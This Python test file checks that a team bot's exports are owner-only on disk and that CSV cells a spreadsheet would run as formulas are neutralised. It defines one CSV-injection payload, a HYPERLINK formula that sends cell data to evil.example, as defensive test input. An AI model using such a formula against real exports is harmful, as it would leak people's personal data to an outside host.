"""Exports on disk: owner-only folders and files whatever the umask, and no cell a
spreadsheet would run as a formula (handlers/exports.py, bot/private_files.py)."""

from __future__ import annotations

import csv
import io
import os
import stat

import pytest

from bot.cli import demo_team_path, main
from handlers import exports
from storage import staff_store
from tests.support.clock import LONDON, local
from tests.test_reports import open_harness

INJECTION = '=HYPERLINK("https://evil.example/?d="&D2&E2,"click")'


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def open_umask():
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.mark.rule("SUM-QUARTER")
def test_export_folders_are_0700_and_files_0600_under_umask_022(tmp_path, open_umask, capsys):
    """Item 3: folders 0700, files 0600, regardless of the umask (before: 0755 and 0644)."""
    db = tmp_path / "w.db"
    assert main(["import", str(demo_team_path()), "--db", str(db)]) == 0
    out = tmp_path / "exports" / "q3"
    assert main(["export", "--db", str(db), "--as", "tom", "--from", "2026-07-01",
                 "--to", "2026-09-30", "--out", str(out)]) == 0  # fmt: skip
    assert mode(out) == 0o700 and mode(out.parent) == 0o700
    files = list(out.iterdir())
    assert files and all(mode(f) == 0o600 for f in files)
    capsys.readouterr()


@pytest.mark.rule("SUM-QUARTER")
async def test_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    """Item 3: a cell beginning with =, +, -, @, tab or carriage return is prefixed with a
    single quote (OWASP CSV injection), so no formula runs beside a name and date of birth."""
    h = await open_harness(tmp_path, local("2026-11-09 08:00"))
    await h.say("sam", "/absent Jay 07:30 not in bed")
    for text in (INJECTION, "+44 7700 900123", "-1+1", "@SUM(1,1)", "\tcmd", "\rcmd"):
        await h.say("sam", f"/update Jay {text}")
    tom = await staff_store.get_staff(h.db, "tom")
    files = await exports.period(
        h.db, tom, local("2026-11-01 00:00"), local("2026-12-01 00:00"), LONDON
    )
    for name, text in files.items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(exports.FORMULA_START), (name, cell)
    texts = [r["text"] for r in csv.DictReader(io.StringIO(files["events.csv"]))]
    assert any(t.startswith("'=HYPERLINK(") for t in texts)
    await h.close()


async def test_the_consoles_files_folder_is_0700_and_its_files_0600(tmp_path, open_umask):
    """Item 3: the files folder (a chart, the weekly pack) is owner-only as well."""
    from bot.console import ConsoleTransport
    from handlers.context import Services
    from reminders.clock import FakeClock
    from storage.db import Database
    from tests.support.team import demo_team, seed_team

    async with Database(tmp_path / "w.db") as db:
        await seed_team(db, demo_team())
        svc = Services(db=db, clock=FakeClock(local("2026-11-09 10:00")))
        console = ConsoleTransport(svc, out=lambda line: None, files_dir=tmp_path / "files")
        await console.say("tom", "/chart")
    saved = list((tmp_path / "files").iterdir())
    assert saved and mode(tmp_path / "files") == 0o700
    assert all(mode(f) == 0o600 for f in saved)
